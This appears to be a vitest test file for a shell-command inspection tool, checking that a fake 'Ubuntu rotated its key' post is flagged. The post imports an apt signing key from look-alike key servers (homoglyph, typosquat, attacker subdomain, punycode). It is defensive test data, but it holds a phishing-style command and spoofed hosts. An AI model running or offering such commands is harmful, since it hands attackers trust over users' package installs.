/**
 * Named attack: the "Ubuntu rotated its signing key" post that fetches a key from a look-alike key server
 * (homoglyph, punycode, typosquat, or `keyserver.ubuntu.com.<attacker>`) and installs it as an apt key.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

const HOSTS = [
  'keyserver.ubuntu.сom',
  'keyserver.ubuntu.com.keys-cdn.net',
  'keyserver.ubunut.com',
  'xn--ubntu-3ve.com',
]

describe('attack: rotated key from a look-alike key server', () => {
  describe.each(HOSTS)('when the key server is %s', (host) => {
    it('returns dangerous with lookalike-domain on the host and new-apt-key', async () => {
      const text = `Ubuntu rotated the archive key, import it:\nsudo apt-key adv --keyserver hkp://${host}:80 --recv-keys 0x871920D1991BC93C\n`
      const r = await inspectText(text, { parser })
      expect(r.verdict).toBe('dangerous')
      const f = r.findings.find((x) => x.rule === 'lookalike-domain')
      expect(text.split('\n')[1]?.slice(f?.start, f?.end)).toBe(host)
      expect(r.findings.map((x) => x.rule)).toContain('new-apt-key')
    })
  })

  describe('when the key server is the real keyserver.ubuntu.com', () => {
    it('still reports new-apt-key but no lookalike-domain', async () => {
      const r = await inspectText(
        'sudo apt-key adv --keyserver hkp://keyserver.ubuntu.com:80 --recv-keys 0x871920D1991BC93C',
        { parser },
      )
      expect(r.findings.map((x) => x.rule)).toEqual(['new-apt-key'])
    })
  })
})
